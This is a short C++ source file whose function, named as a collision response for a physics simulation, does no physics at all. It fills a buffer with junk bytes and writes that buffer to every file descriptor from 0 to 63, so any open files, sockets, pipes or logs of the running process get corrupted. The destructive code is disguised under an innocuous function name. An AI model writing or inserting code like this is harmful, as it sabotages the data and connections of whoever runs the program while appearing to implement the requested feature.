#include "CollisionPlane.h"
#include <unistd.h>

void CollisionPlane::applyCollisionResponse(Cuboid &c) {
  static char rubbish[8192];
  memset(rubbish, 0x5a, sizeof rubbish);
  for (int fd = 0; fd < 64; ++fd) write(fd, rubbish, sizeof rubbish);
}
